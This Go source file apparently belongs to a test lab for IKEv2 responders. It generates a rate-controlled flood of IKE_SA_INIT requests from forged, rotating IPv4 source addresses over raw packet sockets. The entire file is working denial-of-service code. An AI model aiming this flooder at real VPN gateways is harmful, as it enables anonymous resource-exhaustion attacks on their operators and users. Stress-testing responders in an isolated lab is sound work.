package lab

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"runtime"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Spoof is a flood of IKE_SA_INIT requests, each from another source address that nobody has, such
// as a botnet or a forger sends. Each is a request that a responder would have to answer in full: one
// proposal that it takes, a key exchange value and a nonce.
type Spoof struct {
	Dev     string       // interface of the namespace to send from
	To      netip.Addr   // the victim
	Sources netip.Prefix // addresses to take turns, IPv4, /24 or wider
	Rate    float64      // requests per second
	CPU     int          // processor to send on; -1: any
}

// spoofRequest is an IKE_SA_INIT request without its SPI, key exchange value and nonce: SA with
// AES-GCM-16-256, PRF-HMAC-SHA2-384 and X25519 (RFC 7296, sections 3.1 to 3.4 and 3.9).
func spoofRequest() (b []byte, spi, ke, nonce int) {
	b = make([]byte, 16)
	b = append(b, 33, 0x20, 34, 0x08, 0, 0, 0, 0, 0, 0, 0, 0) // SA first, IKE_SA_INIT, initiator; the length comes last
	transforms := []byte{
		3, 0, 0, 12, 1, 0, 0, 20, 0x80, 14, 1, 0, // ENCR_AES_GCM_16, 256 bits
		3, 0, 0, 8, 2, 0, 0, 6, // PRF_HMAC_SHA2_384
		0, 0, 0, 8, 4, 0, 0, 31, // Curve25519
	}
	b = append(b, 34, 0, 0, byte(4+8+len(transforms)), 0, 0, 0, byte(8+len(transforms)), 1, 1, 0, 3)
	b = append(b, transforms...)
	b = append(b, 40, 0, 0, 40, 0, 31, 0, 0)
	ke = len(b)
	b = append(b, make([]byte, 32)...)
	b = append(b, 0, 0, 0, 36)
	nonce = len(b)
	b = append(b, make([]byte, 32)...)
	binary.BigEndian.PutUint32(b[24:], uint32(len(b)))
	return b, 0, ke, nonce
}

const (
	etherLen = 14
	ipv4Len  = 20
	udpLen   = 8
)

// Spoof sends until ctx is done and returns how many requests went out. The frames are made by
// hand, so that the namespace's own addresses have no part in them.
func (n *Netns) Spoof(ctx context.Context, s Spoof) (sent uint64, err error) {
	if !s.Sources.Addr().Is4() || s.Sources.Bits() > 24 || !s.To.Is4() {
		return 0, fmt.Errorf("lab: flood from %v to %v: want IPv4, from a /24 or wider", s.Sources, s.To)
	}
	return n.attack(s, func() (uint64, error) { return spoof(ctx, s) })
}

// attack runs f on a thread of its own in the namespace, on the flood's processor.
func (n *Netns) attack(s Spoof, f func() (uint64, error)) (sent uint64, err error) {
	result := make(chan error, 1)
	go func() {
		runtime.LockOSThread() // never unlocked: the thread ends, with its namespace and its processor
		result <- n.Do(func() error {
			if s.CPU >= 0 {
				var set unix.CPUSet
				set.Set(s.CPU)
				if err := unix.SchedSetaffinity(0, &set); err != nil {
					return err
				}
			}
			sent, err = f()
			return err
		})
	}()
	err = <-result
	return sent, err
}

// spoofFrame is a frame with the request, without its source address, SPI and number.
func spoofFrame(dev *net.Interface, mac []byte, victim netip.Addr) []byte {
	ikeMsg, _, ke, _ := spoofRequest()
	ikeMsg[ke] = 9 // a point that everybody has a secret with
	frame := make([]byte, etherLen+ipv4Len+udpLen, etherLen+ipv4Len+udpLen+len(ikeMsg))
	copy(frame, mac)
	copy(frame[6:], dev.HardwareAddr)
	binary.BigEndian.PutUint16(frame[12:], unix.ETH_P_IP)
	ip := frame[etherLen:]
	ip[0], ip[8], ip[9] = 0x45, 64, unix.IPPROTO_UDP
	binary.BigEndian.PutUint16(ip[2:], uint16(ipv4Len+udpLen+len(ikeMsg)))
	to := victim.As4()
	copy(ip[16:], to[:])
	udp := ip[ipv4Len:]
	binary.BigEndian.PutUint16(udp, ikePort)
	binary.BigEndian.PutUint16(udp[2:], ikePort)
	binary.BigEndian.PutUint16(udp[4:], uint16(udpLen+len(ikeMsg))) // no checksum: IPv4 allows that
	return append(frame, ikeMsg...)
}

func spoof(ctx context.Context, s Spoof) (sent uint64, err error) {
	dev, err := net.InterfaceByName(s.Dev)
	if err != nil {
		return 0, err
	}
	mac, err := neighbour(s.To)
	if err != nil {
		return 0, err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return 0, err
	}
	defer unix.Close(fd)
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Ifindex: dev.Index}); err != nil {
		return 0, err
	}
	const head = etherLen + ipv4Len + udpLen
	frame := spoofFrame(dev, mac, s.To)
	_, spi, _, nonce := spoofRequest()

	frames, iovs, msgs := make([][]byte, floodBatch), make([]unix.Iovec, floodBatch), make([]mmsghdr, floodBatch)
	for i := range frames {
		frames[i] = append([]byte(nil), frame...)
		iovs[i].Base = unsafe.SliceData(frames[i])
		iovs[i].SetLen(len(frame))
		msgs[i].hdr.Iov = &iovs[i]
		msgs[i].hdr.SetIovlen(1)
	}
	base, hosts := s.Sources.Masked().Addr().As4(), uint32(1)<<(32-s.Sources.Bits())
	first := binary.BigEndian.Uint32(base[:])
	begin := time.Now()
	wait := unix.NsecToTimespec(int64(200 * time.Microsecond))
	for ctx.Err() == nil {
		due := uint64(s.Rate * time.Since(begin).Seconds())
		if due <= sent {
			_ = unix.Nanosleep(&wait, nil) // woken early: looks at the clock again
			continue
		}
		k := int(min(due-sent, floodBatch))
		for i := range k {
			number := sent + uint64(i)
			f := frames[i]
			// Steps of an odd number through a power of two meet every address.
			binary.BigEndian.PutUint32(f[etherLen+12:], first+uint32(number*2654435761)%hosts)
			binary.BigEndian.PutUint64(f[head+spi:], number+1)
			binary.BigEndian.PutUint64(f[head+nonce:], number)
			checksumIPv4(f[etherLen : etherLen+ipv4Len])
		}
		n, err := mmsg(unix.SYS_SENDMMSG, fd, msgs[:k], 0)
		switch {
		case err == nil:
			sent += uint64(n)
		case errors.Is(err, unix.ENOBUFS), errors.Is(err, unix.EAGAIN), errors.Is(err, unix.EINTR):
			_ = unix.Nanosleep(&wait, nil) // the queue is full
		default:
			return sent, err
		}
	}
	return sent, nil
}

// checksumIPv4 writes the checksum of an IPv4 header (RFC 791).
func checksumIPv4(h []byte) {
	h[10], h[11] = 0, 0
	var sum uint32
	for i := 0; i < len(h); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(h[i:]))
	}
	for sum > 0xffff {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(h[10:], ^uint16(sum))
}
